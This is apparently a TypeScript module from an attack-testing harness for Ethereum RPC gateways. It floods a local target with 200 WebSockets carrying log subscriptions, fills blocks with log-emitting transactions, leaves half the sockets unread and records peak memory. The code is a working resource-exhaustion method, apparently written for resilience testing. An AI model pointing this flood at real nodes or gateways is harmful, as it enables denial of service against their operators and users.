import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { call, frame, webSocketOpening } from '../rawSockets.ts'
import type { Target } from '../target.ts'

const sockets = 200
const subscriptionsOfSocket = 10
const blocks = 2
/** Emits logs with the topic 1 until 16 Ki gas are left. */
const emitting = '0x5b600160006000a15a61400010600057'

const subscription = frame(call('eth_subscribe', 'logs', {}))

/** Every second socket is not read after its subscriptions. */
async function subscribe({ port, attacker }: Target): Promise<Socket[]> {
  const opened: Socket[] = []
  for (let index = 0; index < sockets; index++) {
    const socket = connect(port, '127.0.0.1')
    socket.on('error', () => {}).resume()
    socket.write(webSocketOpening(attacker.url.pathname))
    for (let count = 0; count < subscriptionsOfSocket; count++) socket.write(subscription)
    opened.push(socket)
    if (index % 20 === 0) await pause(50)
  }
  await pause(1_000)
  for (const [index, socket] of opened.entries()) if (index % 2 === 0) socket.pause()
  return opened
}

export const liveNotifications: Attack = {
  name: 'notifications',
  aim: 'subscribes to all logs as often as it may, makes blocks full of logs, and reads half of its sockets',
  isForGateways: true,
  async run({ target }) {
    const opened = await subscribe(target)
    let maximumMiB = 0
    const data = { from: target.account, data: emitting, gas: '0x632ea0' }
    for (let block = 0; block < blocks; block++) {
      await target.attacker.ask('eth_sendTransaction', [data])
      maximumMiB = Math.max(maximumMiB, target.memoryMiB())
    }
    for (let sample = 0; sample < 10; sample++) {
      await pause(200)
      maximumMiB = Math.max(maximumMiB, target.memoryMiB())
    }
    // All at once, with what waits for them.
    for (const socket of opened) socket.destroy()
    await pause(1_000)
    return {
      figures: `${sockets} WebSockets × ${subscriptionsOfSocket} subscriptions to all logs of ${blocks} full blocks; at most ${Math.round(maximumMiB)} MiB`,
      violations: [],
    }
  },
}
